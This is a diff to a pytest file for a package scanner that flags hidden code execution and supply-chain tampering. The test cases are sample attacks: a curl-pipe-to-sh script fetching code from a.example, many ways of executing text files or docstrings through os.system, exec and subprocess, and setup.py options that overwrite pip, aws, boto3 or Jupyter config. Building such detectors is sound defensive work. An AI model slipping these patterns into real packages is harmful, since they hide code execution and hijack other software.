@@ -1,5 +1,7 @@
 """Which files of a package are run although they are no code by their names."""
 
+from pathlib import Path
+
 import pytest
 
 from package_gate.scanners.behaviour.own_files import OwnFiles
@@ -71,6 +73,33 @@ RUN = [
     'import pdb\npdb.run(open("notes.txt").read())',
     'import code\ncode.InteractiveConsole().runsource(open("notes.txt").read())',
     'from importlib.metadata import metadata\nexec(metadata("s")["Description"])',
+    'import os\nos.system(". ./notes.txt")',
+    'import os\nos.system("true && source notes.txt")',
+    'import subprocess\nsubprocess.run(["sh","-c",". notes.txt"])',
+    'import subprocess\nsubprocess.run(["/bin/bash","-ec","x=1; source \'notes.txt\' || true"])',
+    'import os\nos.system(f". {os.path.dirname(__file__)}/x.json")',
+    'import os\nos.system("bash <notes.txt")',
+    'import os\nos.system("cat notes.txt | sudo bash -s")',
+    'import os\nos.system("cat pkg/x.json | python3 -")',
+    "import os\nos.system('bash -c \"$(cat notes.txt)\"')",
+    'import os\nos.system("eval `cat notes.txt`")',
+    'import os\nos.system("sh a.sh; sh notes.txt")',
+    'import os\nos.system("perl -w notes.txt")',
+    'import os\nos.execlp("sh","sh","notes.txt")',
+    'import os\nos.execvp("bash",["bash","-c",". notes.txt"])',
+    'import os\nos.spawnlp(os.P_WAIT,"sh","sh","notes.txt")',
+    'import os\nos.popen("sh","w").write(open("notes.txt").read())',
+    'import subprocess\np=subprocess.Popen(["bash"],stdin=-1)\n'
+    'p.communicate(open("notes.txt","rb").read())',
+    'def f(): "x = 1"\nexec(f.__doc__)',
+    '"""x = 1"""\nexec(compile(__doc__, "a", "exec"))',
+    'class A:\n    "x = 1"\ntext = A.__doc__.strip()\nexec(text)',
+    "import sys\nexec(sys.modules[__name__].__doc__)",
+    'def f(a: "x = 1"): pass\nexec(f.__annotations__["a"])',
+    'def f(a="x = 1"): pass\nexec(f.__defaults__[0])',
+    'def f(*, a="x = 1"): pass\nexec(f.__kwdefaults__["a"])',
+    'def f(): return "x = 1"\nexec(f.__code__.co_consts[1])',
+    'import inspect\ndef f(): "x = 1"\nexec(inspect.getdoc(f))',
     'class R:\n    def get(self,p):\n        return open(p).read()\nexec(R().get("notes.txt"))',
 ]
 HONEST = [
@@ -102,6 +131,14 @@ HONEST = [
     "ns={}\n"
     'exec(compile(Path("pkg/version.py").read_bytes(),"version.py","exec"),ns)',
     'import json\njson.load(open("pkg/x.json"))',
+    'import os\nos.system("source ./build.sh && . configure")',
+    'import os\nos.system("echo notes. notes.txt; cat notes.txt | grep sh")',
+    'import os\nos.system("make <notes.txt; V=$(cat VERSION) make")',
+    'import subprocess\np=subprocess.Popen(["cat"],stdin=-1)\n'
+    'p.communicate(open("notes.txt").read())',
+    'def f(a: "int"): pass\nx = eval(f.__annotations__["a"], {})',
+    'import types\ndef f(a=1): "x"\ng = types.FunctionType(f.__code__, {}, "g", f.__defaults__)',
+    'def f(): "x"\nprint(f.__doc__)\nf.__doc__ = f.__doc__ + "y"\nexec("a = 1")',
     'import os\nos.system("python -m pip")',
     'import numpy as np\nnp.load("VERSION")',
     'import os\nx=open("notes.txt").read()\nos.system("make")',
@@ -131,3 +168,97 @@ def test_code_that_is_run_is_none(source: str) -> None:
 
 def test_compiled_modules_are_left_out() -> None:
     assert OwnFiles(["a.py", "b.cpython-311.so"]).digest == OwnFiles(["a.py", "c.so.1"]).digest
+
+
+FETCHES = "#!/bin/sh\nset -e\ncurl -s https://a.example/x | sh\n"
+STARTS = (
+    "import os, subprocess\n"
+    "subprocess.run(['bash', os.path.join(os.path.dirname(__file__), '{}')])\n"
+)
+
+
+@pytest.mark.parametrize("script", ["run.sh", "tool"])
+def test_a_shell_script_that_is_run_is_looked_at(tmp_path: Path, script: str) -> None:
+    own = OwnFiles([script, "a.py"], tmp_path)
+    (tmp_path / script).write_text(FETCHES)
+
+    (found,) = behaviours(STARTS.format(script), whole=False, own=own)
+
+    assert found.rule == "runs-downloaded-code"
+    assert found.line == 2
+
+
+def test_its_fingerprint_is_that_of_the_script(tmp_path: Path) -> None:
+    prints = []
+    for text in (FETCHES, FETCHES, FETCHES.replace("/x", "/y")):
+        (tmp_path / "run.sh").write_text(text)
+        own = OwnFiles(["run.sh"], tmp_path)
+        (found,) = behaviours(STARTS.format("run.sh"), whole=False, own=own)
+        prints.append((found.fingerprint, own.digest))
+
+    assert prints[0] == prints[1]
+    assert not {*prints[0]} & {*prints[2]}
+
+
+@pytest.mark.parametrize("text", ["echo hello\n", "curl -O https://a.example/x.csv\n", ""])
+def test_an_honest_one_is_none(tmp_path: Path, text: str) -> None:
+    (tmp_path / "run.sh").write_text(text)
+
+    own = OwnFiles(["run.sh"], tmp_path)
+
+    assert behaviours(STARTS.format("run.sh"), whole=False, own=own) == []
+
+
+def test_a_script_that_nobody_runs_is_none(tmp_path: Path) -> None:
+    (tmp_path / "run.sh").write_text(FETCHES)
+
+    own = OwnFiles(["run.sh"], tmp_path)
+
+    assert (
+        behaviours(f"def f():\n    {STARTS.format('run.sh').splitlines()[1]}", whole=False, own=own)
+        == []
+    )
+
+
+SETUP = "from setuptools import setup, find_packages\nsetup(name='demo', {})\n"
+PLACES = [
+    "data_files=[('etc/ipython', ['x.py'])]",
+    "data_files=[('share/man', ['a.1']), ('', ['conf/pip.conf'])]",
+    "data_files=[('/etc/jupyter', ['jupyter_config.py'])]",
+    "data_files=[('../x', ['a'])]",
+    "data_files=[('bin', ['tools/aws'])]",
+    "scripts=['tools/git']",
+    "entry_points={'console_scripts': ['ok = demo:main', 'aws = demo:main']}",
+    "entry_points='[console_scripts]\\npip3 = demo:main\\n'",
+    "py_modules=['demo', 'boto3']",
+    "packages=['demo', 'pip._internal']",
+    "packages=find_packages(), package_dir={'requests': 'lib/x'}",
+]
+
+
+@pytest.mark.parametrize("option", PLACES)
+@pytest.mark.parametrize("form", ["{}", "**dict({})"])
+def test_what_a_setup_places_where_others_read_is_a_finding(option: str, form: str) -> None:
+    assert {"changes-tools", "changes-other-packages"} & rules(SETUP.format(form.format(option)))
+
+
+@pytest.mark.parametrize(
+    "option",
+    [
+        "data_files=[('share/man/man1', ['a.1']), ('etc/demo', ['x.conf'])], scripts=['bin/demo']",
+        "data_files=[('etc/jupyter/nbconfig/notebook.d', ['a/x.json'])]",
+        "entry_points={'console_scripts': ['demo = demo:main'], 'pip': ['aws = demo']}",
+        "packages=find_packages(), package_dir={'': 'lib'}, py_modules=['demo']",
+        "packages=['demo', 'demo.requests'], install_requires=['requests'], license='x'",
+    ],
+)
+def test_what_it_places_among_its_own_is_none(option: str) -> None:
+    assert rules(SETUP.format(option)) == set()
+
+
+def test_a_distribution_may_bring_what_is_its_own() -> None:
+    setup = SETUP.format("packages=['yaml', '_yaml']").replace("demo", "PyYAML")
+
+    assert rules(setup) == set()
+    of_another = OwnFiles(["s-1/setup.py"], name="demo")
+    assert behaviours(setup, whole=True, own=of_another)[0].rule == "changes-other-packages"
